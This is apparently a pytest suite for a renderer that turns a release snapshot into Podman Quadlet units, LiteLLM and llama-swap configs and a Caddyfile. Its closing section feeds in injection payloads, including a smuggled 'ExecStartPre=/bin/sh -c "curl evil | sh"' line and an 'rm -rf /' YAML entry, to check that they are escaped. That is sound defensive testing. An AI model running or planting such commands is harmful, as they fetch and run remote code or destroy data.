"""Rendering a snapshot: the files, their order and dependencies, and byte-for-byte reproducibility."""

from __future__ import annotations

import copy
import hashlib
import inspect
import json
import re

import jinja2
import pytest
import yaml

from leger.releases import quadlet
from leger.releases.manifest import build_manifest, manifest_json
from leger.releases.rendering import (
    RenderError,
    caddy_token,
    file_secret_name,
    make_environment,
    quote_env,
    release_file_name,
    render,
)
from leger.releases.snapshot import CORE_SERVICES, SnapshotError, example_snapshot
from tests.releases.conftest import changed, service, unit_environment


def reordered(value):
    """The same data with every mapping's keys in reverse insertion order."""
    if isinstance(value, dict):
        return {key: reordered(value[key]) for key in reversed(list(value))}
    if isinstance(value, list):
        return [reordered(item) for item in value]
    return value


@pytest.mark.parametrize("kind", ["minimal", "full"])
@pytest.mark.parametrize("exposure", ["port", "path", "subdomain"])
def test_the_same_snapshot_renders_byte_identical_files(kind: str, exposure: str) -> None:
    snapshot = example_snapshot(kind, exposure)
    first = render(snapshot)
    again = render(json.loads(json.dumps(reordered(copy.deepcopy(snapshot)))))
    assert list(first) == list(again)
    assert first == again
    assert manifest_json(build_manifest(snapshot, first)) == manifest_json(build_manifest(snapshot, again))


def test_it_renders_every_file_a_release_needs(full) -> None:
    files = render(full)
    for name in CORE_SERVICES:
        assert f"{name}.container" in files
    for name in ("searxng", "qdrant", "tika", "whisper", "edgetts", "jupyter", "playwright"):
        assert f"{name}.container" in files
    expected = {
        "llm.network",
        "litellm-config.yaml",
        "llama-swap-config.yaml",
        "Caddyfile",
        "searxng-settings.yml",
        "openwebui-data.volume",
        "openwebui-postgres-data.volume",
        "qdrant-storage.volume",
    }
    assert expected <= set(files)
    # The leger CLI downloads into one folder and makes no subfolders; Open WebUI has no env file any more.
    assert [path for path in files if "/" in path] == []
    assert not any(path.endswith(".env") for path in files)
    assert all(text.endswith("\n") for text in files.values())


def test_config_files_are_flat_release_files() -> None:
    assert release_file_name("litellm/config.yaml") == "litellm-config.yaml"
    assert release_file_name("llama-swap/config.yaml") == "llama-swap-config.yaml"
    assert release_file_name("searxng/settings.yml") == "searxng-settings.yml"
    assert release_file_name("Caddyfile") == "Caddyfile"


def test_a_minimal_release_has_no_add_on(minimal) -> None:
    files = render(minimal)
    assert "searxng.container" not in files and "searxng-settings.yml" not in files
    assert sorted(p for p in files if p.endswith(".container")) == sorted(f"{s}.container" for s in CORE_SERVICES)


def test_units_require_and_follow_what_they_need_by_generated_unit_name(full) -> None:
    files = render(full)
    openwebui = quadlet.parse(files["openwebui.container"])
    requires = set(openwebui.values("Unit", "Requires"))
    after = set(openwebui.values("Unit", "After"))
    assert {
        "llm-network.service",
        "openwebui-data-volume.service",
        "openwebui-postgres.service",
        "openwebui-redis.service",
        "litellm.service",
    } <= requires
    assert requires <= after
    # Add-ons are wanted, not required: Open WebUI still starts when one of them fails.
    assert "searxng.service" in openwebui.values("Unit", "Wants") and "searxng.service" not in requires
    postgres = quadlet.parse(files["openwebui-postgres.container"])
    assert postgres.values("Container", "Notify") == ["healthy"]
    caddy = quadlet.parse(files["caddy.container"])
    assert "openwebui.service" in caddy.values("Unit", "Wants")


def test_open_webui_is_a_single_owner_instance_on_postgres_redis_and_litellm(minimal) -> None:
    files = render(minimal)
    text = files["openwebui.container"]
    env = unit_environment(text)
    assert env["ENABLE_PERSISTENT_CONFIG"] == "False"
    assert "# ENABLE_PERSISTENT_CONFIG=False so every start applies the release's values" in text
    assert env["ENABLE_SIGNUP"] == "False" and env["ENABLE_INITIAL_ADMIN_SIGNUP"] == "True"
    assert env["DATABASE_TYPE"] == "postgresql" and env["DATABASE_HOST"] == "openwebui-postgres"
    assert env["WEBSOCKET_MANAGER"] == "redis" and env["REDIS_URL"] == "redis://openwebui-redis:6379/0"
    assert env["OPENAI_API_BASE_URL"] == "http://litellm:4000/v1" and env["ENABLE_OLLAMA_API"] == "False"
    assert env["WEBUI_URL"] == "https://box.tail1234.ts.net:3000"
    assert env["WEBUI_NAME"] == "Leger AI" and env["DEFAULT_MODELS"] == "claude-haiku-4.5"
    unit = quadlet.parse(text)
    # Every setting is a unit line: the CLI installs only units, so no file beside it can be read.
    assert unit.values("Container", "EnvironmentFile") == []
    # Open WebUI's own LiteLLM key (a virtual key), not LiteLLM's master key.
    assert "litellm-openwebui-key,type=env,target=OPENAI_API_KEY" in unit.values("Container", "Secret")
    assert not any(value.startswith("litellm-master-key,") for value in unit.values("Container", "Secret"))
    # Grouped under comments: first what every release fixes, then what this release chose.
    lines = text.splitlines()
    fixed = lines.index("# Open WebUI settings fixed by every release.")
    chosen = lines.index("# Open WebUI settings chosen in the release.")
    assert fixed < lines.index('Environment="ENABLE_PERSISTENT_CONFIG=False"') < chosen
    assert chosen < lines.index('Environment="WEBUI_NAME=Leger AI"')


def test_litellm_reads_keys_from_the_environment_and_sends_local_models_to_llama_swap(full) -> None:
    files = render(full)
    config = yaml.safe_load(files["litellm-config.yaml"])
    by_name = {entry["model_name"]: entry["litellm_params"] for entry in config["model_list"]}
    assert by_name["claude-haiku-4.5"] == {
        "model": "anthropic/claude-haiku-4-5-20251001",
        "api_key": "os.environ/ANTHROPIC_API_KEY",
    }
    assert by_name["granite-4.0-h-micro"]["api_base"] == "http://llama-swap:8080/v1"
    assert by_name["granite-4.0-h-micro"]["model"] == "openai/granite-4.0-h-micro"
    assert config["general_settings"]["master_key"] == "os.environ/LITELLM_MASTER_KEY"
    litellm = quadlet.parse(files["litellm.container"])
    assert "anthropic-api-key,type=env,target=ANTHROPIC_API_KEY" in litellm.values("Container", "Secret")
    # The config reaches LiteLLM as a Podman secret mounted where it reads it, not as a file beside the unit.
    secret = file_secret_name("litellm-config.yaml", files["litellm-config.yaml"])
    assert f"{secret},type=mount,target=/app/config.yaml" in litellm.values("Container", "Secret")
    assert litellm.values("Container", "Volume") == []
    assert litellm.values("Container", "Exec") == ["--config /app/config.yaml --port 4000"]


@pytest.mark.parametrize("kind", ["minimal", "full"])
def test_every_config_file_is_a_secret_mounted_where_its_program_reads_it(kind: str) -> None:
    snapshot = example_snapshot(kind)
    files = render(snapshot)
    manifest = build_manifest(snapshot, files)
    secrets = {entry["name"]: entry for entry in manifest["secrets"]}
    services = {entry["name"]: entry for entry in manifest["services"]}
    mounted = 0
    for path, text in files.items():
        if not path.endswith(".container"):
            continue
        sid = path.removesuffix(".container")
        unit = quadlet.parse(text)
        # Nothing is mounted from beside the unit: the CLI copies only units into ~/.config/containers/systemd/.
        assert [v for v in unit.values("Container", "Volume") if v.startswith(".")] == [], path
        expected = []
        for config in service(snapshot, sid)["config_files"]:
            release_file = release_file_name(config["path"])
            name = file_secret_name(release_file, files[release_file])
            expected.append(f"{name},type=mount,target={config['mount']}")
            assert secrets[name] == {
                "name": name,
                "type": "mount",
                "source": "file",
                "file": release_file,
                "target": config["mount"],
                "targets": [config["mount"]],
                "required": True,
                "description": f"{release_file}, mounted read-only",
            }
            assert name in services[sid]["secrets_required"] and release_file in services[sid]["files"]
        assert [v for v in unit.values("Container", "Secret") if ",type=mount," in v] == expected, path
        mounted += len(expected)
    assert mounted == (5 if kind == "full" else 4)  # Caddyfile, LiteLLM's, llama-swap's, Cockpit's (and SearXNG's)
    # Only config files are file secrets, and each holds a file of the release.
    assert {entry["file"] for entry in secrets.values() if entry["source"] == "file"} == {
        path for path in files if not path.endswith((".container", ".network", ".volume"))
    }


def test_a_file_secret_is_named_after_the_files_path_and_bytes() -> None:
    text = "model_list: []\n"
    name = file_secret_name("litellm-config.yaml", text)
    assert name == f"leger-file-litellm-config-yaml-{hashlib.sha256(text.encode()).hexdigest()[:12]}"
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]{0,252}", name)
    assert file_secret_name("litellm-config.yaml", text + " ") != name
    assert file_secret_name("Caddyfile", text) == f"leger-file-caddyfile-{name.rsplit('-', 1)[1]}"
    digest = hashlib.sha256("é\n".encode()).hexdigest()[:12]  # of the UTF-8 bytes the bucket serves
    assert file_secret_name("searxng-settings.yml", "é\n") == f"leger-file-searxng-settings-yml-{digest}"


def test_a_changed_config_file_is_a_new_secret_and_changes_only_its_unit(full) -> None:
    other = changed(full, lambda s: s["models"][0].update(litellm_model="anthropic/claude-haiku-4-5"))
    before, after = render(full), render(other)
    assert before["litellm-config.yaml"] != after["litellm-config.yaml"]
    old = file_secret_name("litellm-config.yaml", before["litellm-config.yaml"])
    new = file_secret_name("litellm-config.yaml", after["litellm-config.yaml"])
    assert old != new
    assert f"{new},type=mount,target=/app/config.yaml" in quadlet.parse(after["litellm.container"]).values(
        "Container", "Secret"
    )
    assert old not in after["litellm.container"]
    # The unit now names another secret, so its checksum changes and an upgrade restarts LiteLLM; nothing else.
    assert sorted(path for path in before if before[path] != after[path]) == [
        "litellm-config.yaml",
        "litellm.container",
    ]
    manifests = [build_manifest(full, before), build_manifest(other, after)]
    checksums = [{entry["name"]: entry["checksum"] for entry in manifest["services"]} for manifest in manifests]
    assert [name for name in checksums[0] if checksums[0][name] != checksums[1][name]] == ["litellm"]


def test_llama_swap_gets_its_own_format(full) -> None:
    config = yaml.safe_load(render(full)["llama-swap-config.yaml"])
    model = config["models"]["granite-4.0-h-micro"]
    assert set(model) == {"name", "cmd", "proxy", "ttl", "aliases"}
    assert "--port ${PORT}" in model["cmd"] and model["proxy"] == "http://127.0.0.1:${PORT}"
    assert "--hf-repo unsloth/granite-4.0-h-micro-GGUF" in model["cmd"] and "--flash-attn on" in model["cmd"]
    assert model["ttl"] == 600 and model["aliases"] == ["granite-micro"]


def test_searxng_answers_json_for_open_webui(full) -> None:
    files = render(full)
    assert "json" in yaml.safe_load(files["searxng-settings.yml"])["search"]["formats"]
    env = unit_environment(files["openwebui.container"])
    assert env["SEARXNG_QUERY_URL"] == "http://searxng:8080/search?q=<query>"
    assert env["WEB_SEARCH_ENGINE"] == "searxng" and env["ENABLE_WEB_SEARCH"] == "True"


@pytest.mark.parametrize(
    ("exposure", "sites"),
    [
        ("port", ["https://box.tail1234.ts.net:3000 {", "https://box.tail1234.ts.net:9091 {"]),
        ("path", ["https://box.tail1234.ts.net {"]),
        ("subdomain", ["https://ai.home.example.org {", "https://cockpit.home.example.org {"]),
    ],
)
def test_caddy_routes_each_exposed_service_for_the_exposure_mode(exposure: str, sites: list[str]) -> None:
    files = render(example_snapshot("minimal", exposure))
    assert sorted(line for line in files["Caddyfile"].splitlines() if line.startswith("https://")) == sites
    assert "reverse_proxy openwebui:8080" in files["Caddyfile"]
    publish = quadlet.parse(files["caddy.container"]).values("Container", "PublishPort")
    assert (
        publish
        == {
            # On the machine's Tailscale address only: reachable from the tailnet, not from the LAN.
            "port": ["100.101.102.103:3000:3000", "100.101.102.103:9091:9091"],
            "path": ["100.101.102.103:443:443"],
            "subdomain": ["100.101.102.103:80:80", "100.101.102.103:443:443"],
        }[exposure]
    )
    # No other container publishes anything: Caddy is the only way in.
    others = [p for p in files if p.endswith(".container") and p != "caddy.container"]
    assert all(not quadlet.parse(files[p]).values("Container", "PublishPort") for p in others)


def test_a_missing_template_value_is_an_error_not_an_empty_string() -> None:
    template = make_environment().get_template("network/network.network.j2")
    with pytest.raises(jinja2.UndefinedError, match="'network' is undefined"):
        template.render(release={"name": "home", "version": 1, "owner_uuid": "u"})
    with pytest.raises(jinja2.UndefinedError):
        template.render(release={"name": "home", "version": 1}, network={"name": "llm", "subnet": "10.0.0.0/24"})


def test_it_refuses_to_render_an_invalid_snapshot(minimal) -> None:
    with pytest.raises(SnapshotError, match="routes"):
        render(changed(minimal, lambda s: s["routes"][0].update(path="/a b")))


def test_the_renderer_takes_nothing_but_the_snapshot() -> None:
    assert list(inspect.signature(render).parameters) == ["snapshot"]


# --- values that could break out of their file format ----------------------------------------------------------

EVIL = 'x"\n[Service]\nExecStartPre=/bin/sh -c "curl evil | sh"\n%h $HOME\\'


def test_a_line_break_in_the_release_name_cannot_add_a_key_or_section(minimal) -> None:
    files = render(changed(minimal, lambda s: s["release"].update(name=EVIL)))
    for path, text in files.items():
        if path.endswith((".container", ".network", ".volume")):
            unit = quadlet.parse(text)
            assert unit.problems == [], path
            assert [s.name for s in unit.sections] == [s.name for s in quadlet.parse(render(minimal)[path]).sections], (
                path
            )
            assert not list(unit.entries("Service", "ExecStartPre")), path
    label = next(v for v in quadlet.parse(files["openwebui.container"]).values("Container", "Label") if "release=" in v)
    # Quadlet reads the label back whole; %/$ are doubled so systemd gives them back literally.
    assert quadlet.split_words(label) == ["run.leger.release=" + EVIL.replace("%", "%%").replace("$", "$$")]
    for path in ("litellm-config.yaml", "llama-swap-config.yaml"):
        assert set(yaml.safe_load(files[path])) == set(yaml.safe_load(render(minimal)[path])), path
    assert "ExecStartPre" not in "".join(line for line in files["Caddyfile"].splitlines() if not line.startswith("#"))


def test_a_line_break_in_an_open_webui_value_stays_inside_one_quoted_unit_line(minimal) -> None:
    value = "Home\nENABLE_SIGNUP=True\n[Container]\nImage=evil:1"
    baseline = render(minimal)["openwebui.container"]
    files = render(changed(minimal, lambda s: s["openwebui"].update(WEBUI_NAME=value)))
    env = unit_environment(files["openwebui.container"])
    assert env["ENABLE_SIGNUP"] == "False" and env["WEBUI_NAME"] == value
    assert env.keys() == unit_environment(baseline).keys()
    unit = quadlet.parse(files["openwebui.container"])
    assert unit.problems == [] and [s.name for s in unit.sections] == ["Unit", "Container", "Service", "Install"]
    assert [e.key for s in unit.sections for e in s.entries] == [
        e.key for s in quadlet.parse(baseline).sections for e in s.entries
    ]
    assert unit.values("Container", "Image") == ["ghcr.io/open-webui/open-webui:v0.12.4"]
    (line,) = [v for v in unit.values("Container", "Environment") if "WEBUI_NAME" in v]
    assert quadlet.split_words(line) == [f"WEBUI_NAME={value}"]


@pytest.mark.parametrize("value", [" padded ", '"quoted"', "tab\there", "ends with\r", "100% $HOME", "back\\slash"])
def test_values_an_env_file_could_not_hold_are_quoted_unit_lines_that_read_back_unchanged(minimal, value: str) -> None:
    baseline = render(minimal)["openwebui.container"]
    files = render(changed(minimal, lambda s: s["openwebui"].update(WEBUI_NAME=value)))
    (line,) = [
        v for v in quadlet.parse(files["openwebui.container"]).values("Container", "Environment") if "WEBUI_NAME" in v
    ]
    assert line.startswith('"WEBUI_NAME=') and line.endswith('"')
    assert line == quote_env("WEBUI_NAME", value)
    env = unit_environment(files["openwebui.container"])
    assert env["WEBUI_NAME"] == value
    assert env.keys() == unit_environment(baseline).keys()


def test_a_model_name_cannot_add_a_yaml_key(full) -> None:
    name = "Granite\nmodels:\n  evil: {cmd: 'rm -rf /'}\n"
    files = render(changed(full, lambda s: s["models"][2].update(name=name)))
    config = yaml.safe_load(files["llama-swap-config.yaml"])
    assert set(config) == {"healthCheckTimeout", "logLevel", "models"}
    assert set(config["models"]) == {"granite-4.0-h-micro", "gpt-oss-20b"}
    assert config["models"]["granite-4.0-h-micro"]["name"] == name


def test_caddy_tokens_and_environment_names_refuse_what_would_break_the_file() -> None:
    with pytest.raises(RenderError, match="cannot be written into the Caddyfile"):
        caddy_token("box.ts.net {\n\trespond 200")
    with pytest.raises(RenderError, match="not an environment variable name"):
        quote_env("A=B\nC", "x")
    assert quote_env("A", "100% $5") == '"A=100%% $$5"'
